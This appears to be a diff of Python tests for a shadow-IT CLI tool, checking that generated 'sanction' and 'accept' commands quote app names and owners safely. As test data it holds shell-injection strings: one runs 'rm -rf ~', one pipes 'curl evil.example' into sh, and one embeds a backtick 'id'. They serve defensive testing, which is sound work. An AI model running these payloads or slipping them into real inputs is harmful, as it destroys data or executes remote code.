@@ -98,8 +98,8 @@ def test_steps_are_commands_with_real_options() -> None:
         finding("fees", "unused_spend", "low"),
     ]
     steps = {a["app_key"]: a["step"] for a in actions.top_actions(apps, findings, TODAY)}
-    assert steps["loom"] == "shadowit sanction --config config.toml Loom --status banned"
-    assert steps["old"] == "shadowit sanction --config config.toml Old --review-by 2027-11-20"
+    assert steps["loom"] == "shadowit sanction --config config.toml --status banned -- Loom"
+    assert steps["old"] == "shadowit sanction --config config.toml --review-by 2027-11-20 -- Old"
     assert steps["fees"] == (
         "shadowit accept --config config.toml fees:unused_spend --until 2027-02-18"
         " --reason 'why it is accepted'"
@@ -109,7 +109,7 @@ def test_steps_are_commands_with_real_options() -> None:
 def test_owner_step_follows_the_answer() -> None:
     asked = app("asked", confirmation={"state": "sanction_requested", "owner": "ana@example.com"})
     (top,) = actions.top_actions([asked], [finding("asked", "owner_unconfirmed", "low")], TODAY)
-    assert top["step"].endswith(" Asked --status sanctioned --owner ana@example.com")
+    assert top["step"].endswith(" --status sanctioned --owner ana@example.com -- Asked")
     assert "confirm send" not in top["text"]
 
 
@@ -157,7 +157,7 @@ def test_a_hostile_app_name_stays_one_argument_of_the_command() -> None:
         assert top["step_kind"] == "command"
         argv = shlex.split(top["step"])
         assert argv[:4] == ["shadowit", "sanction", "--config", "config.toml"]
-        assert argv[4] == hostile, "the name is one argument, nothing runs after it"
+        assert argv[-2:] == ["--", hostile], "the name is one argument, nothing runs after it"
         assert "--owner" not in argv or argv[argv.index("--owner") + 1] == "a b@acme.example"
 
 
@@ -167,3 +167,16 @@ def test_an_accept_line_keeps_a_hostile_finding_id_one_argument() -> None:
     hostile = "okta:x'; rm -rf ~; echo 'y:unsanctioned"
     argv = shlex.split(actions.accept_line(hostile, "2027-01-31"))
     assert argv[4] == hostile and argv[-2:] == ["--reason", "why it is accepted"]
+
+
+def test_owner_advice_quotes_a_hostile_name_and_owner() -> None:
+    """The remediation of an owner-not-confirmed finding carries a command too: a name from a
+    provider and an owner typed into the confirmation page stay single arguments."""
+    import shlex
+
+    name, owner = 'x"; curl evil.example|sh; echo "', "a`id`@example.com"
+    advice = owner_advice(name, "sanction_requested", owner)
+    assert advice is not None
+    command = advice.split("run `", 1)[1].rstrip("`.")
+    argv = shlex.split(command)
+    assert argv[-2:] == ["--", name] and argv[argv.index("--owner") + 1] == owner
